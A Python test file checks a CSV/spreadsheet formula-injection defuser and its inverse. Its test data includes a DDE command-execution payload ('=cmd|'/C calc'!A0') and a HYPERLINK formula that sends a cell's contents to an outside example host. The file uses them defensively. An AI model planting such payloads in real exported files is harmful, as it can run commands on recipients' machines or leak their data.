from __future__ import annotations

import pandas as pd
import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st

from geodata.formats.defusing import defuse, restore

TEXTS = st.lists(st.none() | st.text() | st.from_regex(r"\A[' \t]{0,3}[=+@\-]?.{0,3}\Z"))


@pytest.mark.parametrize(
    ("text", "defused"),
    [
        ("=1+1", "'=1+1"),
        ("+98 21", "'+98 21"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        (" =1", "' =1"),
        ("=cmd|'/C calc'!A0", "'=cmd|'/C calc'!A0"),
        (
            '=HYPERLINK("http://example.org/?"&A1,"x")',
            '\'=HYPERLINK("http://example.org/?"&A1,"x")',
        ),
        ("＝1+1", "'＝1+1"),
        ("'=1", "''=1"),
        ("a=1", "a=1"),
        ("'quoted'", "'quoted'"),
        ("", ""),
        ("خبر", "خبر"),
    ],
)
def test_texts_that_spreadsheets_run_are_defused(text: str, defused: str) -> None:
    assert defuse(pa.array([text])).to_pylist() == [defused]


@given(TEXTS)
def test_restoring_gives_every_text_as_it_was(texts: list[str | None]) -> None:
    defused = defuse(pa.array(texts, pa.string())).to_pylist()
    restored = restore(pd.Series(defused, dtype="str"))
    assert [None if pd.isna(text) else text for text in restored] == texts
